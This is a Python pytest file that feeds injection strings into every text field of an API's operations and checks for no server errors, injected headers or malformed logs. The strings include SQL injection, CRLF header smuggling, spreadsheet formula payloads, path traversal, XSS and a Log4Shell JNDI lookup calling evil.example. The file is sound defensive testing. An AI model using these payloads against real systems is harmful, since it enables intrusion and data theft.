"""What people type is never run: not as SQL, not as a header, not as a line of a log, not as a formula of a table.

The strings are some of our own, and the Big List of Naughty Strings. Each operation gets the next few of them, in each
text of its body.
"""

import itertools
import json
from collections.abc import Iterator
from typing import Any

import pytest

from tests.access.cast import Cast, cast_of
from tests.api.operations import OPERATIONS, json_body
from tests.stories.recordings import DATA
from tests.stories.things import filled
from tests.world import World

OWN = [
    "'; DROP TABLE posts; --",
    "1' OR '1'='1",
    "$$; SELECT pg_sleep(10); $$",
    "%(name)s %s {0} {actor.session_id}",
    "a\r\nSet-Cookie: session=stolen",
    "a\nX-Injected: yes",
    '"}\n{"event": "signed_in", "level": "info"}',
    '=HYPERLINK("http://evil.example","x")',
    "+cmd|' /C calc'!A0",
    "\x1b[2J\x1b[31mred",
    "\u2028\u2029\u202e\ufeff\u0000",
    "../../etc/passwd",
    "${jndi:ldap://evil.example/a}",
    "<script>alert(1)</script>",
]
WITH_BODY = [item for item in OPERATIONS if json_body(item[2])]
LIST = DATA / "messages" / "naughty" / "blns.dev.txt"
EACH = 4


def said(example: Any, word: str) -> Iterator[Any]:
    """The example, once for each text in it, with the word in its place."""
    if isinstance(example, str):
        yield word
    elif isinstance(example, dict):
        for name, value in example.items():
            yield from (example | {name: changed} for changed in said(value, word))
    elif isinstance(example, list) and example:
        yield from ([changed, *example[1:]] for changed in said(example[0], word))


@pytest.fixture(scope="module")
def cast(shared_world: World) -> Cast:
    return cast_of(shared_world)


def is_not_run(cast: Cast, words: list[str], capfd: pytest.CaptureFixture[str]) -> None:
    """Each operation with the next few of the words, in each of its texts."""
    turn = itertools.cycle(words)
    for method, path, operation in WITH_BODY:
        example = json_body(operation)["example"]
        for word in itertools.islice(turn, EACH):
            for body in said(example, word):
                answer = cast.answer("administrator", method, filled(path, cast.known), body)
                assert answer.status_code < 500, (method, path, body)
                assert not {"X-Injected", "Set-Cookie"} & set(answer.headers.keys())
    for line in capfd.readouterr().err.splitlines():
        assert "level" in json.loads(line), line


def test_what_people_type_is_not_run(cast: Cast, capfd: pytest.CaptureFixture[str]) -> None:
    is_not_run(cast, OWN, capfd)


@pytest.mark.real
@pytest.mark.skipif(not LIST.is_file(), reason=f"the list is not at {LIST}")
def test_nor_is_what_others_have_collected(cast: Cast, capfd: pytest.CaptureFixture[str]) -> None:
    words = [line for line in LIST.read_text().splitlines() if line and not line.startswith("#")]
    assert len(words) > 300
    is_not_run(cast, words, capfd)
